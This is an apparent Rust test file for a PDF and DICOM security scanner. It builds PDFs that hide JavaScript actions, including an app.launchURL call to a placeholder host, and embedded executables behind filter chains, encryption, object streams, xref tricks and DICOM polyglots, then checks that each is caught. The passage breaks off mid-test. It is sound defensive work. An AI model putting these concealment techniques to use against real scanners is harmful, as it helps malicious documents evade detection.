//! The PDF reader against documents that real programs write and read: each case is built
//! (by hand or by qpdf), proven live with qpdf (it must read the file and, fully decoded
//! and decrypted, show the action or attachment), and then screened.
#![allow(clippy::disallowed_methods)] // temporary files for qpdf

use std::path::PathBuf;
use std::process::Command;

use pacsguard_dicom::{
    MAX_PDF_INFLATED_BYTES, MAX_PDF_NESTING_DEPTH, MAX_PDF_OBJECTS, PdfFinding, inspect_pdf,
};
use pacsguard_events::{FindingKind, Severity};

/// A document of `objects` (numbered from 1; object 1 is the catalog), with a correct
/// cross-reference table, so that qpdf reads it without repairs.
fn build(objects: &[Vec<u8>]) -> Vec<u8> {
    build_with_header(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", objects)
}

fn build_with_header(header: &[u8], objects: &[Vec<u8>]) -> Vec<u8> {
    let mut out = header.to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for offset in offsets {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

fn obj(text: &str) -> Vec<u8> {
    text.as_bytes().to_vec()
}

fn stream(dict: &str, data: &[u8]) -> Vec<u8> {
    let mut out = format!("<< {dict} /Length {} >>\nstream\n", data.len()).into_bytes();
    out.extend_from_slice(data);
    out.extend_from_slice(b"\nendstream");
    out
}

/// A one-page document whose catalog carries `catalog_extra`, with `more` objects from 4 on.
fn document(catalog_extra: &str, page_extra: &str, more: &[Vec<u8>]) -> Vec<u8> {
    let mut objects = vec![
        obj(&format!(
            "<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>"
        )),
        obj("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        obj(&format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] {page_extra} >>"
        )),
    ];
    objects.extend_from_slice(more);
    build(&objects)
}

struct Temp(PathBuf);

impl Temp {
    fn new(name: &str) -> Temp {
        static COUNTER: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let n = COUNTER.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let dir = std::env::temp_dir().join(format!("pacsguard-pdf-{}-{n}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        Temp(dir.join(name))
    }
}

impl Drop for Temp {
    fn drop(&mut self) {
        if let Some(dir) = self.0.parent() {
            let _ = std::fs::remove_dir_all(dir);
        }
    }
}

/// Runs qpdf with `args` around an input and an output file; the output, if written.
fn qpdf(pdf: &[u8], before: &[&str], after: &[&str]) -> Option<Vec<u8>> {
    let input = Temp::new("in.pdf");
    std::fs::write(&input.0, pdf).expect("write");
    let output = input.0.with_file_name("out.pdf");
    let status = Command::new("qpdf")
        .args(before)
        .arg(&input.0)
        .args(after)
        .arg(&output)
        .output()
        .expect("qpdf (scripts/setup-test-deps.sh installs it)");
    // 0: fine, 3: read with warnings (repaired), as a reader opens it.
    assert!(
        matches!(status.status.code(), Some(0) | Some(3)),
        "qpdf failed: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    std::fs::read(&output).ok()
}

/// qpdf's reading of `pdf`, every stream decoded, decryption undone, object streams
/// expanded: proof of what a reader sees in it.
fn as_qpdf_reads_it(pdf: &[u8]) -> String {
    let out = qpdf(
        pdf,
        &["--password="],
        &[
            "--qdf",
            "--decode-level=all",
            "--object-streams=disable",
            "--decrypt",
        ],
    )
    .expect("qpdf wrote its reading");
    String::from_utf8_lossy(&out).into_owned()
}

/// Asserts that qpdf reads `pdf` and sees every one of `markers` in it.
fn live(pdf: &[u8], markers: &[&str]) {
    let seen = as_qpdf_reads_it(pdf);
    for marker in markers {
        assert!(
            seen.contains(marker),
            "qpdf does not see {marker:?} in:\n{seen}"
        );
    }
}

fn of(findings: &[PdfFinding], severity: Severity) -> Vec<&PdfFinding> {
    findings.iter().filter(|f| f.severity == severity).collect()
}

/// The one alert of `pdf`, which must be an active-content alert mentioning `words`.
fn assert_alert(pdf: &[u8], kind: FindingKind, words: &str) {
    let report = inspect_pdf(pdf);
    let alerts = of(&report.findings, Severity::Alert);
    assert!(
        alerts
            .iter()
            .any(|f| f.kind == kind && f.detail.contains(words)),
        "no {kind} alert with {words:?}: {:#?}",
        report.findings
    );
}

fn js_catalog(js: &str) -> String {
    format!("/OpenAction << /S /JavaScript /JS {js} >>")
}

// ---- filters -------------------------------------------------------------------------

const SCRIPT: &[u8] = b"app.launchURL('http://198.51.100.7/x', true);";

fn hex(data: &[u8]) -> Vec<u8> {
    let mut out: Vec<u8> = data
        .iter()
        .flat_map(|b| format!("{b:02x}").into_bytes())
        .collect();
    out.push(b'>');
    out
}

fn ascii85(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for chunk in data.chunks(4) {
        let mut word = [0u8; 4];
        word[..chunk.len()].copy_from_slice(chunk);
        let mut value = u32::from_be_bytes(word);
        let mut digits = [0u8; 5];
        for digit in digits.iter_mut().rev() {
            *digit = (value % 85) as u8 + b'!';
            value /= 85;
        }
        out.extend_from_slice(&digits[..chunk.len() + 1]);
    }
    out.extend_from_slice(b"~>");
    out
}

fn run_length(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    // One-byte literal runs: the text is interleaved with length bytes, so not readable
    // in the raw file.
    for byte in data {
        out.extend_from_slice(&[0, *byte]);
    }
    out.push(128);
    out
}

/// LZW with every byte a literal code (a valid stream: the decoder's table grows one entry
/// per code, and the code width follows it, EarlyChange 1).
fn lzw(data: &[u8]) -> Vec<u8> {
    let (mut out, mut bits, mut nbits) = (Vec::new(), 0u64, 0u32);
    let mut table = 258usize;
    let mut emit = |code: u64, width: u32, out: &mut Vec<u8>| {
        bits = bits << width | code;
        nbits += width;
        while nbits >= 8 {
            out.push((bits >> (nbits - 8)) as u8);
            nbits -= 8;
        }
    };
    let width = |table: usize| match table + 1 {
        0..=511 => 9,
        512..=1023 => 10,
        1024..=2047 => 11,
        _ => 12,
    };
    emit(256, 9, &mut out);
    let mut fresh = true; // the first code after a clear adds no entry
    for byte in data {
        emit(u64::from(*byte), width(table), &mut out);
        if !fresh {
            table += 1;
        }
        fresh = false;
        if table >= 4000 {
            emit(256, width(table), &mut out);
            table = 258;
            fresh = true;
        }
    }
    emit(257, width(table), &mut out);
    if nbits > 0 {
        out.push((bits << (8 - nbits)) as u8);
    }
    out
}

fn flate(data: &[u8]) -> Vec<u8> {
    miniz_oxide::deflate::compress_to_vec_zlib(data, 6)
}

/// PNG "Up" prediction over rows of `columns` bytes.
fn png_up(data: &[u8], columns: usize) -> Vec<u8> {
    let mut out = Vec::new();
    let mut previous = vec![0u8; columns];
    for row in data.chunks(columns) {
        out.push(2);
        for (i, byte) in row.iter().enumerate() {
            out.push(byte.wrapping_sub(previous[i]));
        }
        previous[..row.len()].copy_from_slice(row);
    }
    out
}

fn js_in_stream(dict: &str, data: &[u8]) -> Vec<u8> {
    document(&js_catalog("4 0 R"), "", &[stream(dict, data)])
}

#[test]
fn a_script_behind_every_filter_and_chain_is_read() {
    let long = SCRIPT.repeat(40); // long enough for LZW's code width to grow
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("/Filter /FlateDecode", flate(&long)),
        (
            "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 7 >>",
            flate(&png_up(&long, 7)),
        ),
        ("/Filter /ASCIIHexDecode", hex(&long)),
        ("/Filter /ASCII85Decode", ascii85(&long)),
        ("/Filter /LZWDecode", lzw(&long)),
        ("/Filter /RunLengthDecode", run_length(&long)),
        ("/Filter [/ASCIIHexDecode /FlateDecode]", hex(&flate(&long))),
        (
            "/Filter [/ASCII85Decode /LZWDecode /RunLengthDecode]",
            ascii85(&lzw(&run_length(&long))),
        ),
        (
            "/Filter [/AHx /Fl] /DecodeParms [null << /Predictor 12 /Columns 5 >>]",
            hex(&flate(&png_up(&long, 5))),
        ),
    ];
    for (dict, data) in cases {
        let pdf = js_in_stream(dict, &data);
        assert!(
            memchr::memmem::find(&pdf, b"launchURL").is_none(),
            "{dict}: not hidden"
        );
        live(&pdf, &["launchURL('http://198.51.100.7/x'"]);
        assert_alert(&pdf, FindingKind::ActiveContent, "app.launchURL(");
    }
}

// ---- object streams, cross-reference streams, incremental updates, broken xref ------

#[test]
fn actions_inside_object_streams_behind_an_xref_stream_are_found() {
    let plain = document(&js_catalog("(app.alert\\('objstm'\\))"), "", &[]);
    let packed = qpdf(
        &plain,
        &[],
        &["--object-streams=generate", "--compress-streams=y"],
    )
    .expect("qpdf output");
    assert!(memchr::memmem::find(&packed, b"/ObjStm").is_some());
    assert!(memchr::memmem::find(&packed, b"/XRef").is_some());
    assert!(
        memchr::memmem::find(&packed, b"JavaScript").is_none(),
        "not hidden"
    );
    live(&packed, &["/S /JavaScript"]);
    assert_alert(&packed, FindingKind::ActiveContent, "app.alert('objstm')");
}

/// Review r28-screen: an object stream whose data does not decode here hid every object in
/// it without a word (a crypt filter read wrongly did exactly that: the catalog and its
/// script gone, no finding). It is a `not-inspected` warning naming the stream now, as
/// qpdf warns of it; a document whose object streams decode has none.
#[test]
fn an_object_stream_that_does_not_decode_is_a_warning_naming_it() {
    let plain = document(&js_catalog("(app.alert\\('objstm'\\))"), "", &[]);
    let packed = qpdf(
        &plain,
        &[],
        &["--object-streams=generate", "--compress-streams=y"],
    )
    .expect("qpdf output");
    let report = inspect_pdf(&packed);
    assert!(
        of(&report.findings, Severity::Warning).is_empty(),
        "{:#?}",
        report.findings
    );
    let objstm = memchr::memmem::find(&packed, b"/ObjStm").expect("an object stream");
    let data = objstm
        + memchr::memmem::find(&packed[objstm..], b"stream\n").expect("its data")
        + b"stream\n".len();
    let mut broken = packed.clone();
    broken[data..data + 2].copy_from_slice(b"\0\0"); // no zlib header: inflate refuses it
    let checked = Temp::new("broken.pdf");
    std::fs::write(&checked.0, &broken).expect("write");
    let qpdf_check = Command::new("qpdf")
        .arg("--check")
        .arg(&checked.0)
        .output()
        .expect("qpdf");
    assert!(
        String::from_utf8_lossy(&qpdf_check.stderr).contains("error decoding stream data")
            || String::from_utf8_lossy(&qpdf_check.stdout).contains("error decoding stream data"),
        "qpdf cannot decode it either: {}",
        String::from_utf8_lossy(&qpdf_check.stderr)
    );
    let report = inspect_pdf(&broken);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::NotInspected
                && f.severity == Severity::Warning
                && f.detail.contains("object stream")
                && f.detail.contains("could not be decoded")),
        "{:#?}",
        report.findings
    );
}

/// A document whose catalog has no `/Type` (found from `/Root`) and whose script and
/// catalog sit in an object stream without `/Type /ObjStm` (found from the type-2 entries
/// of the cross-reference stream, itself typed or not): mutool opens every variant and
/// qpdf the typed-xref one, each running the script.
fn untyped_object_stream_pdf(header: &[u8], xref_typed: bool, objstm_typed: bool) -> Vec<u8> {
    let catalog = b"<< /Pages 2 0 R /OpenAction 3 0 R >>".to_vec();
    let action = b"<< /S /JavaScript /JS (app.alert\\('untyped'\\)) >>";
    let index = format!("1 0 3 {} ", catalog.len() + 1);
    let mut data = index.clone().into_bytes();
    data.extend_from_slice(&catalog);
    data.push(b'\n');
    data.extend_from_slice(action);
    let packed = flate(&data);
    let mut out = header.to_vec();
    let pages = out.len();
    out.extend_from_slice(b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n");
    let objstm = out.len();
    out.extend_from_slice(
        format!(
            "4 0 obj\n<< {}/N 2 /First {} /Filter /FlateDecode /Length {} >>\nstream\n",
            if objstm_typed { "/Type /ObjStm " } else { "" },
            index.len(),
            packed.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&packed);
    out.extend_from_slice(b"\nendstream\nendobj\n");
    let xref = out.len();
    let row = |kind: u8, field: usize, n: u16| {
        let mut row = vec![kind];
        row.extend_from_slice(&(field as u32).to_be_bytes());
        row.extend_from_slice(&n.to_be_bytes());
        row
    };
    let rows = [
        row(0, 0, 65535),
        row(2, 4, 0),
        row(1, pages, 0),
        row(2, 4, 1),
        row(1, objstm, 0),
        row(1, xref, 0),
    ]
    .concat();
    let rows = flate(&rows);
    let typed = if xref_typed { "/Type /XRef " } else { "" };
    out.extend_from_slice(
        format!(
            "5 0 obj\n<< {typed}/Size 6 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length {} >>\nstream\n",
            rows.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&rows);
    out.extend_from_slice(format!("\nendstream\nendobj\nstartxref\n{xref}\n%%EOF\n").as_bytes());
    out
}

/// What `mutool show` prints for `path` in `pdf` (mutool runs a document's scripts from
/// what it resolves here).
fn mutool_show(pdf: &[u8], path: &str) -> String {
    let input = Temp::new("in.pdf");
    std::fs::write(&input.0, pdf).expect("write");
    let out = Command::new("mutool")
        .arg("show")
        .arg(&input.0)
        .arg(path)
        .output()
        .expect("mutool (scripts/setup-test-deps.sh installs it)");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Review finding: a catalog without `/Type /Catalog` and object streams without
/// `/Type /ObjStm` hid the document and its script, on its own, encapsulated with its
/// header past the first KiB, and as a DICOM/PDF polyglot.
#[test]
fn catalogs_and_object_streams_are_found_the_way_readers_find_them() {
    let header = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n";
    for xref_typed in [true, false] {
        let pdf = untyped_object_stream_pdf(header, xref_typed, false);
        assert!(memchr::memmem::find(&pdf, b"Catalog").is_none());
        assert!(memchr::memmem::find(&pdf, b"ObjStm").is_none());
        assert!(
            mutool_show(&pdf, "trailer/Root/OpenAction/JS").contains("app.alert"),
            "mutool resolves the script (xref typed: {xref_typed})"
        );
        if xref_typed {
            live(&pdf, &["app.alert\\('untyped'\\)"]);
        }
        let report = inspect_pdf(&pdf);
        assert!(report.catalog, "xref typed: {xref_typed}");
        assert_alert(&pdf, FindingKind::ActiveContent, "app.alert('untyped')");
        // Encapsulated, its header past the first KiB: read only if a catalog is found.
        let mut far = vec![b' '; 5000];
        far.extend_from_slice(&pdf);
        let dicom = pacsguard_testkit::DicomBuilder::encapsulated_pdf("1.2.3.4", &far).build();
        let inspection = pacsguard_dicom::inspect(&dicom);
        assert!(
            inspection
                .observations
                .iter()
                .any(|o| o.severity == Severity::Alert && o.detail.contains("app.alert('untyped')")),
            "{:#?}",
            inspection.observations
        );
    }
    // A polyglot: the header in an early element (the first KiB, where readers look), the
    // objects in a later one. mutool opens the DICOM file as this PDF (repairing it: the
    // catalog is found from the cross-reference stream's `/Root`, untyped; in repair mode
    // mutool needs the object stream typed).
    let body = untyped_object_stream_pdf(b"", true, true);
    assert!(memchr::memmem::find(&body, b"Catalog").is_none());
    let polyglot = pacsguard_testkit::DicomBuilder::ct("1.2.3.9")
        .element(0x0009, 0x0010, *b"LO", b"%PDF-1.7")
        .element(0x0009, 0x1010, *b"OB", &body)
        .build();
    let header_at = memchr::memmem::find(&polyglot, b"%PDF-").expect("header");
    assert!(header_at < 1024, "{header_at}");
    assert!(mutool_show(&polyglot, "trailer/Root/OpenAction/JS").contains("app.alert"));
    let inspection = pacsguard_dicom::inspect(&polyglot);
    assert!(
        inspection
            .observations
            .iter()
            .any(|o| o.severity == Severity::Alert
                && o.format == Some(pacsguard_dicom::Format::Pdf)
                && o.detail.contains("a PDF reader opens this file")),
        "{:#?}",
        inspection.observations
    );
}

/// Review finding: a PDF of thousands of stream headers without `endstream` made every
/// stream search the rest of the file and every decode copy it (6.5 minutes for 63 MB).
/// The search is linear now and the budget is asked before any copy; the deadline stops
/// the reader and is named.
#[test]
fn the_time_limit_stops_the_reader_and_is_named() {
    let pdf = js_in_stream("/Filter /FlateDecode", &flate(b"app.alert(1)"));
    // A deadline already past: `now` is past only once the clock has moved on.
    let past = std::time::Instant::now()
        .checked_sub(std::time::Duration::from_secs(1))
        .expect("a clock running for a second");
    let report = pacsguard_dicom::inspect_pdf_until(&pdf, past);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::NotInspected
                && f.severity == Severity::Warning
                && f.detail.contains("INSPECTION_DEADLINE")),
        "{:#?}",
        report.findings
    );
    // Within the time, the same document is read whole without a warning.
    assert!(!warned(&pdf, "INSPECTION_DEADLINE"));
    assert_alert(&pdf, FindingKind::ActiveContent, "app.alert(1)");
}

/// Thousands of streams that never end, each named as a script: every one is found, and
/// the work is linear in the file (the stream budget, not a rescan, bounds it).
#[test]
fn streams_without_an_end_cost_one_pass_over_the_file() {
    let mut pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n".to_vec();
    for i in 0..2000 {
        let (action, data) = (2 * i + 2, 2 * i + 3);
        pdf.extend_from_slice(
            format!("{action} 0 obj << /S /JavaScript /JS {data} 0 R >> endobj\n{data} 0 obj << /Length 99999999 >>\nstream\n")
                .as_bytes(),
        );
        pdf.extend_from_slice(&vec![b' '; 4096]);
    }
    pdf.extend_from_slice(b"app.alert('last')\nendstream endobj\n");
    // Every stream's data runs to the one `endstream`: 8 MB each, decoded up to the budget.
    assert!(warned(&pdf, "bytes decoded by stream filters"));
}

#[test]
fn an_incremental_update_adding_a_script_is_read() {
    let mut pdf = document("", "", &[]);
    let start = pdf.len();
    let xref_prev = memchr::memmem::rfind(&pdf, b"xref\n0").expect("xref");
    pdf.extend_from_slice(
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('update'\\)) >> >>\nendobj\n",
    );
    let xref = pdf.len();
    pdf.extend_from_slice(
        format!("xref\n1 1\n{start:010} 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev {xref_prev} >>\nstartxref\n{xref}\n%%EOF\n")
            .as_bytes(),
    );
    live(&pdf, &["'update'"]);
    assert_alert(&pdf, FindingKind::ActiveContent, "app.alert('update')");
}

#[test]
fn a_broken_cross_reference_table_hides_nothing() {
    let mut pdf = document(&js_catalog("(app.alert\\('broken'\\))"), "", &[]);
    // Every offset of the table pointing nowhere: qpdf reconstructs.
    let table = memchr::memmem::rfind(&pdf, b"0000000000 65535 f").expect("table");
    for entry in 1..=3 {
        let at = table + 20 * entry;
        pdf[at..at + 10].copy_from_slice(b"9999999999");
    }
    live(&pdf, &["'broken'"]);
    assert_alert(&pdf, FindingKind::ActiveContent, "app.alert('broken')");
}

// ---- encryption ------------------------------------------------------------------------

#[test]
fn documents_encrypted_with_an_empty_user_password_are_decrypted_and_read() {
    let plain = document(
        &js_catalog("4 0 R"),
        "",
        &[stream(
            "/Filter /FlateDecode",
            &flate(b"app.alert('encrypted stream')"),
        )],
    );
    let variants: [&[&str]; 5] = [
        &["40"],
        &["128", "--use-aes=n"],
        &["128", "--use-aes=y"],
        &["256", "--force-R5"],
        &["256"],
    ];
    for variant in variants {
        let mut after = vec!["--encrypt", "", "owner"];
        after.extend_from_slice(variant);
        after.push("--");
        let encrypted = qpdf(&plain, &["--allow-weak-crypto"], &after).expect("encrypted");
        assert!(
            memchr::memmem::find(&encrypted, b"/Encrypt").is_some(),
            "{variant:?}"
        );
        live(&encrypted, &["app.alert('encrypted stream')"]);
        let report = inspect_pdf(&encrypted);
        assert!(
            report.findings.iter().any(|f| f.severity == Severity::Alert
                && f.detail.contains("app.alert('encrypted stream')")),
            "{variant:?}: {:#?}",
            report.findings
        );
        assert!(
            of(&report.findings, Severity::Warning).is_empty(),
            "{variant:?}: {:#?}",
            report.findings
        );
    }
}

/// Review r29-screen: an encrypted document that readers read unencrypted, in part or
/// whole, was read decrypted only, into garbage: an XFA form typed /Metadata written in
/// clear under `/EncryptMetadata false` (qpdf leaves such streams undecrypted and shows
/// the script) was exit 0, and an incremental update whose newest trailer names no
/// /Encrypt, attaching a program in clear (qpdf and mutool extract /bin/true from it),
/// was a one-byte "data" attachment (info), and one encrypted by an update with a new
/// /Encrypt and /ID over a cross-reference stream was decrypted with the old key (info).
/// Files written by tests/clear_reading_pdf.py.
#[test]
fn what_readers_read_unencrypted_in_an_encrypted_document_is_read() {
    let dir = Temp::new("clear");
    let dir = dir.0.parent().expect("temp dir").to_path_buf();
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/clear_reading_pdf.py");
    let wrote = Command::new("python3")
        .args([script, dir.to_str().expect("utf-8"), "/bin/true"])
        .output()
        .expect("python3");
    assert!(
        wrote.status.success(),
        "{}",
        String::from_utf8_lossy(&wrote.stderr)
    );
    let qpdf_out = |args: &[&str], name: &str| {
        Command::new("qpdf")
            .args(args)
            .arg(dir.join(name))
            .output()
            .expect("qpdf (scripts/setup-test-deps.sh installs it)")
            .stdout
    };
    let metadata_xfa = std::fs::read(dir.join("metadata_xfa.pdf")).expect("written");
    let shown = qpdf_out(
        &["--show-object=4", "--filtered-stream-data"],
        "metadata_xfa.pdf",
    );
    assert!(
        String::from_utf8_lossy(&shown).contains("xfa.host.messageBox('clear metadata')"),
        "qpdf reads the form in clear"
    );
    assert_alert(
        &metadata_xfa,
        FindingKind::ActiveContent,
        "xfa.host.messageBox('clear metadata')",
    );

    let update = std::fs::read(dir.join("update_in_clear.pdf")).expect("written");
    let program = std::fs::read("/bin/true").expect("/bin/true");
    assert_eq!(
        qpdf_out(&["--show-attachment=notes.txt"], "update_in_clear.pdf"),
        program,
        "qpdf extracts the program"
    );
    let report = inspect_pdf(&update);
    assert!(
        report.findings.iter().any(|f| f.severity == Severity::Alert
            && f.kind == FindingKind::EmbeddedExecutable
            && f.detail.contains("notes.txt")),
        "{:#?}",
        report.findings
    );
    assert!(
        report.attachments.iter().any(|a| a.bytes == program),
        "the program, as readers extract it, goes to rules and hash lists"
    );

    // The newest trailer's key, not the last found: an update's classic trailer naming a
    // new /Encrypt and /ID over a cross-reference stream (qpdf and mutool extract the
    // program with the new key).
    let reencrypted = std::fs::read(dir.join("reencrypted_update.pdf")).expect("written");
    assert_eq!(
        qpdf_out(
            &["--password=", "--show-attachment=notes.txt"],
            "reencrypted_update.pdf"
        ),
        program,
        "qpdf extracts the program"
    );
    let report = inspect_pdf(&reencrypted);
    assert!(
        report.findings.iter().any(|f| f.severity == Severity::Alert
            && f.kind == FindingKind::EmbeddedExecutable
            && f.detail.contains("notes.txt")),
        "{:#?}",
        report.findings
    );

    // The benign case of the first: qpdf's --cleartext-metadata (RC4, AES-128, AES-256)
    // over a document with XMP metadata is read both ways and is nothing at all.
    let xmp = br#"<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>"#;
    let plain = document(
        "/Metadata 4 0 R",
        "",
        &[stream("/Type /Metadata /Subtype /XML", xmp)],
    );
    for bits in [
        &["128", "--use-aes=n"][..],
        &["128", "--use-aes=y"],
        &["256"],
    ] {
        let mut after = vec!["--encrypt", "", "owner"];
        after.extend_from_slice(bits);
        after.extend(["--cleartext-metadata", "--"]);
        let sealed = qpdf(&plain, &["--allow-weak-crypto"], &after).expect("encrypted");
        assert!(memchr::memmem::find(&sealed, b"/EncryptMetadata false").is_some());
        let report = inspect_pdf(&sealed);
        assert!(
            report.findings.is_empty(),
            "{bits:?}: {:#?}",
            report.findings
        );
    }
}

/// Review r28-screen: a stream whose filter chain begins with `/Crypt` names the crypt filter
/// that decrypts it (`/DecodeParms` `/Name`, ISO 32000-1 §7.6.5), whatever `/StmF` says;
/// qpdf and mutool decrypt it with that filter. The reader took every such stream as not
/// encrypted, so an object stream naming `StdCF` hid the catalog and its script (no
/// finding at all, in an element too) and an attachment naming it hid the program (info).
/// Files written by tests/crypt_filter_pdf.py (V4, RC4 128 bits, empty user password),
/// proven with qpdf and, where installed, mutool.
#[test]
fn streams_naming_their_crypt_filter_are_decrypted_with_it() {
    let dir = Temp::new("crypt");
    let dir = dir.0.parent().expect("temp dir").to_path_buf();
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/crypt_filter_pdf.py");
    let wrote = Command::new("python3")
        .args([script, dir.to_str().expect("utf-8"), "/bin/true"])
        .output()
        .expect("python3");
    assert!(
        wrote.status.success(),
        "{}",
        String::from_utf8_lossy(&wrote.stderr)
    );
    let read = |name: &str| std::fs::read(dir.join(name)).expect("written");
    let script_seen = "app.alert('named crypt filter')";
    for name in [
        "objstm.pdf",
        "objstm_stmf_identity.pdf",
        "identity_named.pdf",
        "encrypt_refs.pdf",
    ] {
        let pdf = read(name);
        live(&pdf, &["named crypt filter"]);
        if let Ok(shown) = Command::new("mutool")
            .args(["show", dir.join(name).to_str().expect("utf-8")])
            .args(["trailer/Root/OpenAction/JS"])
            .output()
        {
            let shown = String::from_utf8_lossy(&shown.stdout).replace('\\', "");
            assert!(
                shown.contains(script_seen) || shown.contains("4 0 R"),
                "{name}: mutool shows {shown}"
            );
        }
        assert_alert(&pdf, FindingKind::ActiveContent, script_seen);
        let in_element = pacsguard_testkit::DicomBuilder::ct("1.2.3.28")
            .element(0x0009, 0x1010, *b"OB", &pdf)
            .build();
        assert!(
            pacsguard_dicom::inspect(&in_element)
                .observations
                .iter()
                .any(|o| o.severity == Severity::Alert && o.detail.contains(script_seen)),
            "{name} in an element: {:#?}",
            pacsguard_dicom::inspect(&in_element).observations
        );
    }
    let attachment = read("attachment.pdf");
    let out = Command::new("qpdf")
        .arg("--show-attachment=report.xml")
        .arg(dir.join("attachment.pdf"))
        .output()
        .expect("qpdf");
    assert!(
        out.stdout.starts_with(b"\x7fELF"),
        "qpdf extracts the program"
    );
    assert_alert(&attachment, FindingKind::EmbeddedExecutable, "report.xml");
    let dicom = pacsguard_testkit::DicomBuilder::encapsulated_pdf("1.2.3.29", &attachment).build();
    assert!(
        pacsguard_dicom::inspect(&dicom)
            .observations
            .iter()
            .any(|o| o.kind == FindingKind::EmbeddedExecutable && o.severity == Severity::Alert),
        "{:#?}",
        pacsguard_dicom::inspect(&dicom).observations
    );
}

/// Review r28-screen: qpdf and mutool resolve a stream's parameters through indirect
/// references like any other value; the reader took them as direct only. An object stream
/// whose `/N` and `/First` are references hid the catalog and its script (no finding), and
/// an attached program behind a PNG predictor whose `/Predictor` and `/Columns` are
/// references was decoded without the predictor (info). Files written by
/// tests/indirect_values_pdf.py, proven with qpdf and, where installed, mutool.
#[test]
fn stream_parameters_given_by_reference_are_resolved() {
    let dir = Temp::new("refs");
    let dir = dir.0.parent().expect("temp dir").to_path_buf();
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/indirect_values_pdf.py");
    let wrote = Command::new("python3")
        .args([script, dir.to_str().expect("utf-8"), "/bin/true"])
        .output()
        .expect("python3");
    assert!(
        wrote.status.success(),
        "{}",
        String::from_utf8_lossy(&wrote.stderr)
    );
    let objstm = std::fs::read(dir.join("objstm_refs.pdf")).expect("written");
    live(&objstm, &["by reference"]);
    if let Ok(shown) = Command::new("mutool")
        .args(["show", dir.join("objstm_refs.pdf").to_str().expect("utf-8")])
        .args(["trailer/Root/OpenAction/JS"])
        .output()
    {
        assert!(String::from_utf8_lossy(&shown.stdout).contains("by reference"));
    }
    assert_alert(
        &objstm,
        FindingKind::ActiveContent,
        "app.alert('by reference')",
    );
    let attachment = std::fs::read(dir.join("predictor_refs.pdf")).expect("written");
    let out = Command::new("qpdf")
        .arg("--show-attachment=report.xml")
        .arg(dir.join("predictor_refs.pdf"))
        .output()
        .expect("qpdf");
    assert!(
        out.stdout.starts_with(b"\x7fELF"),
        "qpdf extracts the program"
    );
    assert_alert(&attachment, FindingKind::EmbeddedExecutable, "report.xml");
}

#[test]
fn a_user_password_is_a_not_inspected_warning_saying_so() {
    let plain = document(&js_catalog("(app.alert\\(1\\))"), "", &[]);
    let encrypted =
        qpdf(&plain, &[], &["--encrypt", "secret", "owner", "256", "--"]).expect("encrypted");
    let report = inspect_pdf(&encrypted);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::NotInspected && f.detail.contains("user password")),
        "{:#?}",
        report.findings
    );
}

// ---- header and syntax variants ---------------------------------------------------------

#[test]
fn header_forms_and_syntax_variants_readers_accept() {
    let action = "/OpenAction << /S /J#61vaScript /JS (app.alert\\('variant'\\)) >>";
    let plain = document(action, "", &[]);
    let body = &plain[plain.iter().position(|b| *b == b'\n').expect("header line") + 1..];
    let mut junk_600 = vec![b'x'; 600];
    junk_600.extend_from_slice(&plain);
    let mut junk_5000 = vec![b'x'; 5000];
    junk_5000.extend_from_slice(&plain);
    let mut postscript = b"%!PS-Adobe-3.0 PDF-1.7\n".to_vec();
    postscript.extend_from_slice(body);
    // Comments and odd whitespace between every token, and a stream keyword followed by
    // spaces before its end of line.
    let spaced = build(&[
        obj("<<%c\r/Type\x0c/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"),
        obj("<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        obj("<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 1]>>"),
        obj("<</S/JavaScript%x\n/JS 5 0 R>>"),
        {
            let script = b"app.alert('variant')";
            let mut s = format!("<</Length {}>>stream   \r\n", script.len()).into_bytes();
            s.extend_from_slice(script);
            s.extend_from_slice(b"\r\nendstream");
            s
        },
    ]);
    for (name, pdf) in [
        ("junk before the header", junk_600),
        ("header beyond the first KiB", junk_5000),
        ("PostScript header", postscript),
        ("comments and spaces", spaced),
    ] {
        live(&pdf, &["'variant'"]);
        let report = inspect_pdf(&pdf);
        assert!(
